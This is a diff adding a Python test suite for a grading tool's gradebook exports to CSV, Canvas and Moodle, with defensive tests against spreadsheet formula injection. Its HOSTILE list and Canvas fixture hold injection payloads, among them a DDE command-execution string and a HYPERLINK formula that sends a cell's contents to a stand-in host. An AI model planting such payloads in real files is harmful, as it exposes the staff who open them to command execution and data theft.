@@ -1,0 +1,477 @@
+"""Gradebooks, read back by readers of their own: as Canvas does, as Moodle does, and as spreadsheets cut them."""
+
+import csv
+import io
+import re
+import unicodedata
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from hypothesis.internal.conjecture import providers
+
+from grader.errors import Refused
+from grader.gradebook.cells import cell, harmless, table
+from grader.gradebook.export import (
+    Row,
+    canvas_gradebook,
+    csv_gradebook,
+    moodle_gradebook,
+    read_canvas_columns,
+)
+from grader.gradebook.roster import Student, read_roster
+
+CANVAS = (
+    "Student,ID,SIS User ID,SIS Login ID,Section,Day 1 (991),Day 2 (992),Day 2 again (993),Current Score\n"
+    ",,,,,Manual Posting,,,\n"
+    "    Points Possible,,,,,100,100,50,(read only)\n"
+    '"Lovelace, Ada",67890,u01,al123,Section A,90,,,90\n'
+    '"Lee, Kim",111,u02,kim@uni.edu,"Section A and Section B",,,,\n'
+    '"Lee, Kim",222,u03,kim2@uni.edu,Section B,EX,,,\n'
+    '"=HYPERLINK(""http://x"")",333,+4,@login,-1+1,,,,\n'
+    '"Student, Test",999,,,Section A,,,,\n'
+)
+ROWS = [
+    Row("lovelaceada-67890", 87.5, 100, checks={"swap_rule": 20, "accumulate": 7.5}, late="1 day late"),
+    Row("leekim-111", 0, 100, checks={"swap_rule": 0, "accumulate": 0}),
+    Row("leekim-222", 55, 100, excused=True, note="ill"),
+    Row("HYPERLINKhttpx-333", None, 100),
+    Row("gone", 100, 100),
+]
+
+
+@pytest.fixture(scope="module", autouse=True)
+def the_same_everywhere():
+    """Hypothesis takes no constants out of whatever modules are loaded, and keeps no file of them."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(providers, "_get_local_constants", lambda: providers._local_constants, raising=False)
+        yield
+
+
+@pytest.fixture
+def canvas(tmp_path):
+    """Roster and columns of Canvas's own export."""
+    path = tmp_path / "export.csv"
+    path.write_text(CANVAS, encoding="utf-8")
+    students = [s if s.ids["ID"] != "333" else changed(s) for s in read_roster(path)]
+    return students, read_canvas_columns(path)
+
+
+def changed(student):
+    """The student whose name is a formula, under a key that the tests can write."""
+    return Student("HYPERLINKhttpx-333", name=student.name, ids=student.ids)
+
+
+# --- Readers
+
+
+def read_csv(text):
+    """Our own: by column names."""
+    return {line["student"]: line for line in csv.DictReader(io.StringIO(text, newline=""))}
+
+
+def read_as_canvas(text):
+    """As its importer: students by ID, assignments by the number in brackets, points possible in a line of its own."""
+    header, *lines = csv.reader(io.StringIO(text, newline=""))
+    assert "Student" in header[0]
+    assert "ID" in header[1]
+    assert header[2:5] == ["SIS User ID", "SIS Login ID", "Section"]
+    points, grades = {}, {}
+    assignments = {name: place for place, name in enumerate(header) if place > 4}
+    for line in lines:
+        assert len(line) == len(header)
+        if "Points Possible" in line[0]:
+            points = {name: float(line[place].replace(",", ".")) for name, place in assignments.items()}
+        else:
+            grades[int(line[1])] = {name: line[place].strip() for name, place in assignments.items()}
+    return points, grades
+
+
+def read_as_moodle(text, known):
+    """As its importer: one user that it does not know, and nothing at all is imported."""
+    header, *lines = csv.reader(io.StringIO(text, newline=""))
+    assert header[0] in {"Email address", "ID number"}
+    for line in lines:
+        assert line[0] in known
+        float(line[1])
+    return {line[0]: (float(line[1]), line[2]) for line in lines}
+
+
+def cut_naively(text):
+    """Every beginning of a cell that some spreadsheet could see, quotes or not."""
+    for line in re.split(r"[\r\n]+", text):
+        for separator in ",;\t|":
+            for part in line.split(separator):
+                yield part
+                yield (
+                    part.strip("\"' \u00a0\u3000") if not part.strip(' "\u00a0\u3000').startswith("'") else ""
+                )
+
+
+def formulas(text):
+    """The beginnings that a spreadsheet would calculate, but for plain numbers."""
+    found = []
+    for part in cut_naively(text):
+        bare = part.strip().strip('"').strip()
+        sign = unicodedata.normalize("NFKC", bare[:1])[:1]
+        if sign and sign in "=+-@" and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", bare):
+            found.append(bare)
+    return found
+
+
+# --- Our own
+
+
+def test_a_csv(canvas):
+    """One line a student, with each check's points; who has no result has a line too."""
+    made = csv_gradebook(ROWS, canvas[0])
+
+    lines = read_csv(made.text)
+    assert list(lines) == sorted(lines)
+    assert lines["lovelaceada-67890"] == {
+        "student": "lovelaceada-67890",
+        "name": "Lovelace, Ada",
+        "email": "",
+        "score": "87.5",
+        "max_score": "100",
+        "excused": "",
+        "late": "1 day late",
+        "note": "",
+        "swap_rule": "20",
+        "accumulate": "7.5",
+    }
+    assert (lines["leekim-222"]["score"], lines["leekim-222"]["excused"]) == ("", "yes")
+    assert lines["leekim-111"]["score"] == "0"
+    assert (lines["gone"]["score"], lines["studenttest-999"]["score"]) == ("100", "")
+    assert made.notes == [
+        "gone has a result, and is not in the roster",
+        "studenttest-999 is in the roster, and has no result; the line has no points",
+    ]
+
+
+def test_a_csv_without_a_roster():
+    """There is nobody to miss, and rows tell names themselves."""
+    made = csv_gradebook([Row("ada", 1.005, 3, name="Ada", email="a@b.c")])
+
+    assert made.text == ("student,name,email,score,max_score,excused,late,note\r\nada,Ada,a@b.c,1,3,,,\r\n")
+    assert made.notes == []
+
+
+def test_checks_that_not_everybody_has():
+    """A check that was added is empty for whoever was not graded by it."""
+    lines = read_csv(csv_gradebook([Row("a", 1, 2, checks={"x": 1}), Row("b", 1, 2, checks={"y": 1})]).text)
+
+    assert [(line["x"], line["y"]) for line in lines.values()] == [("1", ""), ("", "1")]
+
+
+# --- Canvas
+
+
+def test_canvas_takes_it(canvas):
+    """Its own column, its own ids; who cannot be graded is left out, and told."""
+    made = canvas_gradebook("Day 2", ROWS, *canvas)
+
+    points, grades = read_as_canvas(made.text)
+    assert points == {"Day 2 (992)": 100}
+    assert grades == {
+        67890: {"Day 2 (992)": "87.5"},
+        111: {"Day 2 (992)": "0"},
+        222: {"Day 2 (992)": "EX"},
+    }
+    assert made.notes == [
+        "HYPERLINKhttpx-333 could not be graded, and is left out",
+        "gone has a result, and is not in the roster",
+        "studenttest-999 is in the roster, and has no result, and is left out",
+    ]
+
+
+def test_canvas_line_by_line(canvas):
+    """As its guide shows it."""
+    made = canvas_gradebook("Day 2", ROWS[:1], *canvas)
+
+    assert made.text == (
+        "Student,ID,SIS User ID,SIS Login ID,Section,Day 2 (992)\r\n"
+        "    Points Possible,,,,,100\r\n"
+        '"Lovelace, Ada",67890,u01,al123,Section A,87.5\r\n'
+    )
+
+
+@pytest.mark.parametrize("title", ["Day 2 (992)", "day 2", " Day 2 "])
+def test_canvas_column_is_found(canvas, title):
+    """By its whole name, or without its number."""
+    assert "Day 2 (992)" in read_as_canvas(canvas_gradebook(title, ROWS, *canvas).text)[0]
+
+
+def test_canvas_column_by_another_name(canvas):
+    """The assignment is `day2` here, and has a title."""
+    made = canvas_gradebook("The backward pass", ROWS, *canvas, also=["day2"])
+
+    assert "Day 2 (992)" in read_as_canvas(made.text)[0]
+
+
+def test_a_new_column_in_canvas(canvas):
+    """Canvas asks then; the instructor is told before."""
+    made = canvas_gradebook("Day 3", ROWS[:2], *canvas)
+
+    assert read_as_canvas(made.text)[0] == {"Day 3": 100}
+    assert made.notes[0] == (
+        "Canvas has no `Day 3` (`Day 1 (991)`, `Day 2 (992)`, `Day 2 again (993)`); the import will ask whether to "
+        "make it"
+    )
+
+
+def test_points_that_differ_in_canvas(canvas):
+    """Its own stay as they are, and nothing is scaled."""
+    made = canvas_gradebook("Day 2 again", ROWS[:2], *canvas)
+
+    assert read_as_canvas(made.text)[0] == {"Day 2 again (993)": 50}
+    assert made.notes[0] == "`Day 2 again (993)` has 50 points in Canvas and 100 here; no grade is scaled"
+
+
+@pytest.mark.parametrize("theirs", ["100", "100.0", "100.00", "100,00", ""])
+def test_points_that_are_the_same_in_canvas(canvas, theirs):
+    """However it writes them."""
+    made = canvas_gradebook("Day 2", ROWS[:1], canvas[0], {"Day 2 (992)": theirs})
+
+    assert not any("points" in note for note in made.notes)
+
+
+def test_canvas_with_two_of_one_name(canvas):
+    """Nobody chooses between them."""
+    with pytest.raises(Refused) as caught:
+        canvas_gradebook("Day 2", ROWS, canvas[0], {"Day 2 (1)": "", "Day 2 (2)": ""})
+
+    assert str(caught.value) == (
+        "`Day 2`: Canvas has 2 assignments of this name: Day 2 (1), Day 2 (2); give the name with its number"
+    )
+
+
+def test_a_roster_that_is_not_canvass():
+    """Without its ids it would make new students."""
+    with pytest.raises(Refused, match="this roster is not Canvas's"):
+        canvas_gradebook("Day 2", ROWS, [Student("ada")], {})
+
+
+def test_canvas_columns(tmp_path):
+    """What is no assignment's has no number in brackets."""
+    path = tmp_path / "x.csv"
+    path.write_text(CANVAS, encoding="utf-8")
+
+    assert read_canvas_columns(path) == {
+        "Day 1 (991)": "100",
+        "Day 2 (992)": "100",
+        "Day 2 again (993)": "50",
+    }
+
+
+@pytest.mark.parametrize(
+    ("row", "expected"),
+    [
+        (Row("al123", 1, 2), {67890}),
+        (Row("AL123", 1, 2), {67890}),
+        (Row("u01", 1, 2), {67890}),
+        (Row("kim@uni.edu", 1, 2), {111}),
+        (Row("kim", 1, 2, email="Kim@uni.edu"), {111}),
+        (Row("Kim Lee", 1, 2, name="Lee, Kim"), set()),
+        (Row("67890", 1, 2), set()),
+    ],
+)
+def test_who_is_who(canvas, row, expected):
+    """By the key, a login or an address; never by a name, which two may have."""
+    made = canvas_gradebook("Day 2", [row], *canvas)
+
+    assert set(read_as_canvas(made.text)[1]) == expected
+    assert any(
+        note.startswith(f"{row.student} has a result, and is not in the roster") for note in made.notes
+    ) == (not expected)
+
+
+def test_a_class_that_nobody_knows(canvas):
+    """An empty file would look as if all were well; what they are called here and there is told."""
+    rows = [Row("ada", 1, 100), Row("bob", 2, 100)]
+    told = r"a result is called ada, and a line of the roster lovelaceada-67890 \(SIS Login ID al123, SIS User ID u01\)"
+    for make in (
+        lambda: canvas_gradebook("Day 2", rows, *canvas),
+        lambda: moodle_gradebook("Day 2", rows, canvas[0]),
+    ):
+        with pytest.raises(Refused, match=told):
+            make()
+
+
+def test_what_many_share_is_told_once():
+    """A class of 900 has no 900 lines."""
+    rows = [Row("ada", 1, 2), *(Row(f"s{number:02}", 1, 2) for number in range(12))]
+
+    made = moodle_gradebook("Day 2", rows, MOODLE)
+
+    assert made.notes == [
+        "s00, s01, s02, s03, s04, s05, s06, s07 and 4 more: each has a result, and is not in the roster",
+        "bob, eve: each is in the roster, and has no result, and is left out",
+    ]
+
+
+def test_two_results_of_one_student(canvas):
+    """Neither is chosen."""
+    made = canvas_gradebook("Day 2", [Row("al123", 1, 100), Row("lovelaceada-67890", 2, 100)], *canvas)
+
+    assert read_as_canvas(made.text)[1] == {}
+    assert made.notes[0] == (
+        "al123 and lovelaceada-67890 are all lovelaceada-67890 in the roster: whose grade it is stays open"
+    )
+
+
+# --- Moodle
+
+MOODLE = [
+    Student("ada", name="Ada", email="Ada@uni.edu", ids={"ID number": "1"}),
+    Student("bob", name="Bob", email="bob@uni.edu"),
+    Student("eve", email="eve@uni.edu"),
+]
+KIM = Student("kim", email="kim@uni.edu")
+
+
+def test_moodle_takes_it():
+    """By address, with words beside the grade."""
+    rows = [
+        Row("ada", 87.5, 100, late="1 day late: -10 %", note="see me."),
+        Row("bob", None, 100),
+        Row("eve", 5, 100, excused=True),
+        Row("gone", 5, 100),
+        Row("kim", 7, 100, late="In time, ill.", note="The checks gave 5. In time, ill."),
+    ]
+
+    made = moodle_gradebook("Day 2", rows, [*MOODLE, Student("new", email="new@uni.edu"), KIM])
+
+    assert made.text.splitlines()[0] == "Email address,Day 2,Day 2 (Feedback)"
+    assert read_as_moodle(made.text, {"Ada@uni.edu", "kim@uni.edu"}) == {
+        "Ada@uni.edu": (87.5, "1 day late: -10 %. see me"),
+        "kim@uni.edu": (7, "The checks gave 5. In time, ill"),
+    }
+    assert made.notes == [
+        "bob could not be graded, and is left out",
+        "eve is excused, which an import cannot say; set it in Moodle",
+        "gone has a result, and is not in the roster",
+        "new is in the roster, and has no result, and is left out",
+    ]
+
+
+def test_moodle_by_number():
+    """Where not everybody has an address."""
+    roster = [
+        Student("ada", ids={"ID number": "007"}),
+        Student("bob", ids={"ID number": "8"}),
+        Student("eve"),
+    ]
+    rows = [Row(student.student, 1, 2) for student in roster]
+
+    made = moodle_gradebook("Day 2", rows, roster)
+
+    assert read_as_moodle(made.text, {"007", "8"}) == {"007": (1, ""), "8": (1, "")}
+    assert made.notes == [
+        "eve has no ID number in the roster that can stand in a file; enter the grade by hand"
+    ]
+
+
+@pytest.mark.parametrize("email", ["=1+1@uni.edu", "+ada@uni.edu", "@x@uni.edu", "-@uni.edu", "a;=1@uni.edu"])
+def test_an_address_that_is_a_formula(email):
+    """It cannot be written as it is, and changed it would stop the whole import."""
+    made = moodle_gradebook(
+        "Day 2", [Row("ada", 1, 2), Row("bob", 1, 2)], [Student("ada", email=email), MOODLE[1]]
+    )
+
+    assert list(read_as_moodle(made.text, {"bob@uni.edu"})) == ["bob@uni.edu"]
+    assert made.notes[0].startswith("ada has no Email address in the roster that can stand in a file")
+
+
+def test_more_points_than_moodle_takes():
+    """The instructor is told before it refuses."""
+    made = moodle_gradebook("Day 2", [Row("ada", 120, 120)], MOODLE[:1])
+
+    assert made.notes == ["Moodle takes more than 100 points only where its administrator allows it"]
+
+
+# --- Formulas
+
+HOSTILE = [
+    '=HYPERLINK("http://x?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
+    " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "−1+1",
+    "x;=1+1", "x\t=1+1", "x,=1+1", 'x;"=1+1"', 'x";=1+1', "x; \u00a0=1+1", "x\r\n=1+1", "x|=1", '"=1+1', ";;=1", ",@x",
+    '",=1', "x;＝1", "\x00=1", "\x1b]=1", "\u202e=1", "\ue000=1", "a\x0b=1", "x\u2028=1", "%0A=1", "-", "=", "@", "+",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_text_becomes_a_formula(text):
+    """In whichever cell, and whatever a spreadsheet takes for a separator."""
+    rows = [Row("ada", 1, 2, name=text, email=text, late=text, note=text, checks={text: -1.5})]
+    canvas = [Student("ada", name=text, ids={"ID": "1", "SIS Login ID": text, "Section": text})]
+
+    made = [
+        csv_gradebook(rows, [Student("ada", name=text), Student("bob", name=text, email=text)]),
+        canvas_gradebook(text, rows, canvas, {}),
+        canvas_gradebook(text, rows, canvas, {f"{text} (5)": text}),
+        moodle_gradebook(text, rows, [Student("ada", email="a@b.c")]),
+    ]
+
+    for one in made:
+        assert formulas(one.text) == []
+        lines = list(csv.reader(io.StringIO(one.text, newline=""), strict=True))
+        assert len({len(line) for line in lines}) == 1
+        assert all("\n" not in part and "\t" not in part for line in lines for part in line)
+
+
+@given(
+    st.lists(
+        st.text(alphabet="=+-@＝－;,|\t\r\n\"' 1ab\u00a0\u200b\ufeff", max_size=12), min_size=1, max_size=4
+    )
+)
+@settings(max_examples=500, deadline=None, database=None, derandomize=True)
+def test_any_texts_side_by_side(texts):
+    """Nothing that one cell ends with makes the next one a formula, and each can be read back."""
+    text = table([texts, texts])
+
+    assert formulas(text) == []
+    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == [[harmless(t) for t in texts]] * 2
+
+
+@pytest.mark.parametrize("text", ["-5", "+5", "0815", "1.5", "-1,5"])
+def test_numbers_stay_numbers(text):
+    """They calculate nothing."""
+    assert harmless(text) == text
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (0, "0"),
+        (-0.001, "0"),
+        (100, "100"),
+        (87.5, "87.5"),
+        (1 / 3, "0.33"),
+        (1e6, "1000000"),
+        (-2.5, "-2.5"),
+        (None, ""),
+    ],
+)
+def test_numbers(value, written):
+    """With two places at most, and never as 1e+06."""
+    assert cell(value) == written
+
+
+def test_ordinary_texts_stay_as_they_are():
+    """Apostrophes stand only where they must."""
+    for text in (
+        "Lovelace, Ada",
+        "O'Neil-Smith",
+        "a = b",
+        "x@y.z",
+        "1 day late: -10 %",
+        'called "Ada"',
+        "李明",
+    ):
+        assert harmless(text) == text
+
+
+def test_a_long_text_is_cut():
+    """A spreadsheet's cell has an end."""
+    assert len(harmless("=" * 100_000)) < 32_767
